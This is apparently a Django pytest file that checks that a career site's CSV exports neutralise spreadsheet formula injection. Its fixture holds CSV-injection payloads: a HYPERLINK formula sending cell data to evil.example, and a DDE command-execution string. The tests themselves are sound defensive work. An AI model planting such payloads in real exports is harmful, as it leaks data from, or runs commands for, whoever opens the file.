"""Every CSV the site writes is safe to open in a spreadsheet (OWASP's CSV-injection rule).

A cell that begins with =, +, -, @, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets, however many = follow. Each such cell goes out prefixed with a single quote,
which makes it text; nothing else changes.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.mixins import BaseExportMixin

from careercenter.spreadsheets import SpreadsheetSafeCSV, defuse_formula
from opportunities.models import Opportunity
from opportunities.resources import OpportunityResource
from tests.factories import OpportunityFactory, OrganizationFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "title": '==HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "summary": "+SUM(1,2)",
    "description": "-2+3+cmd|' /C calc'!A0",
    "apply_instructions": "\t=1+1",
    "apply_url": "\r=1+1",
}


def export_as_csv(client) -> list[dict[str, str]]:
    fields = {
        f"opportunityresource_{name}": "on" for name in OpportunityResource().get_export_order()
    }
    response = client.post(
        reverse("admin:opportunities_opportunity_export"),
        {"format": "0", "resource": "0", **fields},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_admin_export_defuses_every_formula_cell(admin_client_):
    organization = OrganizationFactory(name="-Org")  # names are cells too
    OpportunityFactory(organization=organization, weekly_hours_min=5, **HOSTILE)

    (row,) = export_as_csv(admin_client_)

    for column, typed in HOSTILE.items():
        assert row[column] == "'" + typed, column
    assert row["organization"] == "'-Org"
    assert row["weekly_hours_min"] == "5"  # other cells are left as they are


def test_a_plain_listing_exports_unchanged(admin_client_):
    listing = OpportunityFactory(title="Data clean-up = two days", summary="A task - short.")

    (row,) = export_as_csv(admin_client_)

    assert row["title"] == listing.title
    assert row["summary"] == listing.summary


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("===1+1", "'===1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        (None, None),
        (5, 5),
    ],
)
def test_defuse_formula(cell, written):
    assert defuse_formula(cell) == written


def test_every_export_in_the_admin_writes_through_the_safe_format():
    """A later ModelAdmin with an export (any format) must use the defusing one."""
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, BaseExportMixin)
    ]

    assert exporting, "no admin exports anything: update this test"
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        assert formats, model_admin
        assert all(issubclass(f, SpreadsheetSafeCSV) for f in formats), (model_admin, formats)
    assert Opportunity in {m.model for m in exporting}


ROOT = Path(__file__).resolve().parents[2]
WRITES_CSV = re.compile(r"\bcsv\.(writer|DictWriter)\b|\.export\(\s*[\"']csv|export_set\(")


def test_hand_written_csv_goes_through_defuse_formula():
    """A CSV written in product code (a report, a feed) must defuse its cells too."""
    unsafe = [
        str(path.relative_to(ROOT))
        for app in ("careercenter", "opportunities", "advising")
        for path in (ROOT / app).rglob("*.py")
        if WRITES_CSV.search(text := path.read_text())
        and not re.search(r"\b(defuse_formula|SpreadsheetSafeCSV)\b", text)
    ]

    assert not unsafe, (
        "These write CSV without careercenter.spreadsheets.defuse_formula: " + ", ".join(unsafe)
    )


def test_the_csv_scan_finds_what_it_looks_for():
    assert WRITES_CSV.search("w = csv.writer(response)")
    assert WRITES_CSV.search("csv.DictWriter(buffer, fieldnames)")
    assert WRITES_CSV.search("dataset.export('csv')")
    assert not WRITES_CSV.search("rows = csv.reader(file)")
